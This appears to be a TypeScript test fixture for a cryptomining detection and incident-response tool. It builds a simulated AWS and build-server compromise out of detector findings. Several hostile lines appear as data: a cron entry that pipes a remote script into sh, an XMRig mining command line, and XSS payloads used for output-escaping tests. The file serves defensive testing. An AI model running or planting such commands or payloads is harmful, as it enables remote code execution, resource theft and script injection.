/**
 * A hand-made, realistic incident for tests and the visual check (excluded from the build): stolen AWS
 * keys used to launch GPU instances in three regions, a billing spike, a GuardDuty alert, and XMRig on
 * an on-premise build server with a cron job and a pool connection. Findings are shaped the way the
 * detectors in src/detect emit them (tags, facts, mitre); addresses are documentation ranges.
 */
import { makeFinding } from "../../model/index.js";
import type { Finding, FindingDraft, Incident } from "../../model/index.js";
import { assess, loadPlaybook } from "../../playbook/index.js";
import type { AssessInput } from "../../playbook/index.js";
import { defaultConfig } from "../../detect/config.js";

export const ACCOUNT = "123456789012";
export const REGIONS = ["us-east-1", "eu-west-1", "ap-southeast-1"];
export const INSTANCES = ["i-0a1b2c3d4e5f60718", "i-0b2c3d4e5f6071829", "i-0c3d4e5f607182930", "i-0d4e5f60718293a41"];
export const WALLET = "4" + "MinerhuntTestWa11etXmr".repeat(4) + "NotARea1Wa11et";
export const XMRIG_SHA256 = "3f1e6d2c9b8a7f6e5d4c3b2a19081726354453627180a9b8c7d6e5f4a3b2c1d0";
export const ONPREM_HOST = "build-01.corp.example.com";

type Draft = Omit<FindingDraft, "rule" | "severity" | "mitre"> & { rule: string; severity?: FindingDraft["severity"]; mitre?: string[] };

function finding(d: Draft): Finding {
  return makeFinding({ ...d, rule: { id: d.rule, name: d.rule, kind: "detector" }, severity: d.severity ?? "high" });
}

export function realisticFindings(): Finding[] {
  return [
    finding({
      rule: "run-instances-burst",
      title: `RunInstances burst: 4 x p3.16xlarge in ${REGIONS.join(", ")} by ci-deploy`,
      trigger: "cloud-activity", confidence: 0.75,
      firstSeen: "2026-11-20T02:10:04Z", lastSeen: "2026-11-20T02:14:51Z",
      entities: { accounts: [ACCOUNT], regions: REGIONS, instances: INSTANCES, users: ["ci-deploy"], accessKeys: ["AKIAIOSFODNN7EXAMPLE"], providers: ["aws"] },
      observables: [{ type: "instance-type", value: "p3.16xlarge" }, { type: "access-key", value: "AKIAIOSFODNN7EXAMPLE" }, { type: "ip", value: "203.0.113.50" }],
      evidence: [
        { file: "cloudtrail/2026-11-20.json", line: 212, summary: "RunInstances p3.16xlarge x2 us-east-1 by ci-deploy from 203.0.113.50" },
        { file: "cloudtrail/2026-11-20.json", line: 219, summary: "RunInstances p3.16xlarge x1 eu-west-1 by ci-deploy" },
        { file: "cloudtrail/2026-11-20.json", line: 227, summary: "RunInstances p3.16xlarge x1 ap-southeast-1 by ci-deploy" },
      ],
      facts: { "instances.launched": 4, "regions.count": 3, "instances.gpu": 4, "instance.types": "p3.16xlarge" },
      tags: ["cloudtrail", "resource-acquisition", "large-instance-types"],
    }),
    finding({
      rule: "iam-persistence",
      title: "IAM persistence: CreateUser backup-svc, CreateAccessKey by ci-deploy",
      trigger: "cloud-activity", confidence: 0.7,
      firstSeen: "2026-11-20T02:03:40Z", lastSeen: "2026-11-20T02:04:02Z",
      entities: { accounts: [ACCOUNT], users: ["ci-deploy", "backup-svc"], accessKeys: ["AKIAIOSFODNN7EXAMPLE"], providers: ["aws"] },
      observables: [{ type: "user", value: "backup-svc" }, { type: "access-key", value: "AKIAI44QH8DHBEXAMPLE" }],
      evidence: [
        { file: "cloudtrail/2026-11-20.json", line: 88, summary: "CreateUser for backup-svc by ci-deploy" },
        { file: "cloudtrail/2026-11-20.json", line: 95, summary: "CreateAccessKey for backup-svc by ci-deploy" },
      ],
      facts: { "iam.users_created": 1, "iam.keys_created": 1, "iam.steps": 2 },
      tags: ["cloudtrail", "iam-persistence", "iam-credentials"],
      mitre: ["T1496", "T1098", "T1136.003"],
    }),
    finding({
      rule: "cloud-alert",
      title: "GuardDuty CryptoCurrency:EC2/BitcoinTool.B!DNS: EC2 instance querying a mining pool domain (us-east-1)",
      trigger: "cloud-alert", confidence: 0.85,
      firstSeen: "2026-11-20T02:31:17Z", lastSeen: "2026-11-20T05:02:44Z",
      entities: { accounts: [ACCOUNT], regions: ["us-east-1"], instances: [INSTANCES[0]!], providers: ["aws"], pools: ["xmr-eu1.nanopool.org"] },
      observables: [{ type: "finding-type", value: "CryptoCurrency:EC2/BitcoinTool.B!DNS" }, { type: "domain", value: "xmr-eu1.nanopool.org" }],
      evidence: [{ file: "guardduty/findings.json", line: 1, summary: "CryptoCurrency:EC2/BitcoinTool.B!DNS: EC2 instance i-0a1b2c3d4e5f60718 is querying a domain name associated with Bitcoin" }],
      facts: { "alert.type": "CryptoCurrency:EC2/BitcoinTool.B!DNS", "alert.mining": true },
      tags: ["provider-alert", "aws"],
    }),
    finding({
      rule: "billing-anomaly",
      title: "EC2 cost spike in account 123456789012: $18,342.55 over baseline (p3.16xlarge, 3 new regions)",
      trigger: "billing", confidence: 0.35, severity: "medium",
      firstSeen: "2026-11-20T00:00:00Z", lastSeen: "2026-11-21T00:00:00Z",
      entities: { accounts: [ACCOUNT], regions: REGIONS, providers: ["aws"] },
      observables: [{ type: "instance-type", value: "p3.16xlarge" }],
      evidence: [{ file: "billing/cost-explorer-2026-11.json", line: 41, summary: "2026-11-20 Amazon Elastic Compute Cloud - Compute BoxUsage:p3.16xlarge $18,391.75" }],
      facts: { "billing.usd": 18342.55, "billing.total_usd": 18391.75, "billing.baseline_usd_per_day": 49.2 },
      tags: ["billing", "gpu", "new-region"],
    }),
    finding({
      rule: "miner-process",
      title: `XMRig running on ${ONPREM_HOST} as /tmp/.X11-unix/xmrig`,
      trigger: "host", confidence: 0.9,
      firstSeen: "2026-11-19T22:41:09Z", lastSeen: "2026-11-20T06:00:00Z",
      entities: { hosts: [ONPREM_HOST], users: ["jenkins"], pools: ["pool.supportxmr.com"] },
      observables: [
        { type: "process", value: "xmrig" },
        { type: "file", value: "/tmp/.X11-unix/xmrig" },
        { type: "hash", value: XMRIG_SHA256 },
        { type: "command-line", value: `/tmp/.X11-unix/xmrig -o pool.supportxmr.com:3333 -u ${WALLET} -k --donate-level=1` },
        { type: "domain", value: "pool.supportxmr.com" },
        { type: "wallet", value: WALLET },
      ],
      evidence: [{ file: "hosts/build-01/ps-auxww.txt", line: 14, summary: "jenkins 48213 389.0 2.1 /tmp/.X11-unix/xmrig -o pool.supportxmr.com:3333 -u 4Miner… -k" }],
      facts: { "process.name": "xmrig", "cpu.pct": 389 },
      tags: ["pb-31:1.1", "attack.t1496"],
    }),
    finding({
      rule: "pool-connection",
      title: `Connection from ${ONPREM_HOST} to mining pool 203.0.113.77:3333`,
      trigger: "network", confidence: 0.6,
      firstSeen: "2026-11-19T22:41:12Z", lastSeen: "2026-11-20T06:00:03Z",
      entities: { hosts: [ONPREM_HOST], ips: ["10.20.0.15"], pools: ["203.0.113.77:3333"] },
      observables: [{ type: "ip", value: "203.0.113.77" }, { type: "port", value: "3333" }],
      evidence: [{ file: "zeek/conn.log", line: 5081, summary: "10.20.0.15:51544 -> 203.0.113.77:3333 tcp 7h18m 1.2 MB" }],
      tags: ["network"],
    }),
    finding({
      rule: "cron-persistence",
      title: `Crontab on ${ONPREM_HOST} downloads and runs a script every 5 minutes`,
      trigger: "host", confidence: 0.65, severity: "medium",
      firstSeen: "2026-11-19T22:40:00Z", lastSeen: "2026-11-19T22:40:00Z",
      entities: { hosts: [ONPREM_HOST], users: ["jenkins"] },
      observables: [{ type: "url", value: "http://198.51.100.23/x.sh" }, { type: "command-line", value: "curl -fsSL http://198.51.100.23/x.sh | sh" }],
      evidence: [{ file: "hosts/build-01/var/spool/cron/crontabs/jenkins", line: 3, summary: "*/5 * * * * curl -fsSL http://198.51.100.23/x.sh | sh" }],
      tags: ["persistence"],
      mitre: ["T1496", "T1053.003"],
    }),
  ];
}

/** Assemble an Incident the way correlation + assess() would. */
export function incidentFrom(findings: Finding[], overrides: Partial<Incident> = {}, extra: Partial<AssessInput> = {}): Incident {
  const entities: Incident["entities"] = {};
  for (const f of findings) {
    for (const [k, v] of Object.entries(f.entities) as [keyof Incident["entities"], string[] | undefined][]) {
      if (!v) continue;
      entities[k] = [...new Set([...(entities[k] ?? []), ...v])];
    }
  }
  const scope = {
    hosts: entities.hosts?.length ?? 0,
    instances: entities.instances?.length ?? 0,
    regions: entities.regions?.length ?? 0,
    accounts: entities.accounts?.length ?? 0,
    clusters: entities.clusters?.length ?? 0,
  };
  const a = assess({ entities, scope, findings, ...extra }, defaultConfig(), loadPlaybook("PB-31"));
  const times = findings.flatMap((f) => [f.firstSeen, f.lastSeen]).sort();
  const incident: Incident = {
    id: "inc-20261120-0001",
    title: "Cryptomining: AWS account 123456789012 (3 regions) and build-01",
    status: "open",
    severity: a.severity,
    confidence: 1 - findings.reduce((p, f) => p * (1 - f.confidence), 1),
    firstSeen: times[0] ?? "2026-11-20T00:00:00Z",
    lastSeen: times[times.length - 1] ?? "2026-11-20T00:00:00Z",
    findingIds: findings.map((f) => f.id),
    entities,
    scope,
    environment: a.environment,
    triggers: a.triggers,
    hostType: a.hostType,
    priority: a.priority,
    decision: a.decision,
    escalations: a.escalations,
    checklist: a.checklist,
    sample: a.sample,
    ...overrides,
  };
  if (a.billingUsd !== undefined && overrides.billingUsd === undefined) incident.billingUsd = a.billingUsd;
  return incident;
}

/** A finding whose log-derived text is hostile HTML/Markdown, for escaping tests. */
export const HOSTILE = "<img src=x onerror=alert(1)>";

export function hostileFinding(): Finding {
  return finding({
    rule: "miner-process",
    title: `Miner ${HOSTILE} on ws-07 | **bold** [link](http://evil.example)`,
    trigger: "host", confidence: 0.9,
    firstSeen: "2026-11-20T01:00:00Z", lastSeen: "2026-11-20T01:05:00Z",
    entities: { hosts: ["ws-07"] },
    observables: [{ type: "process", value: HOSTILE }, { type: "domain", value: "evil'pool\".example" }],
    evidence: [{ file: `/tmp/${HOSTILE}.log`, line: 7, summary: `</script><script>alert(2)</script> ${HOSTILE}` }],
    tags: ["pb-31:1.1"],
  });
}
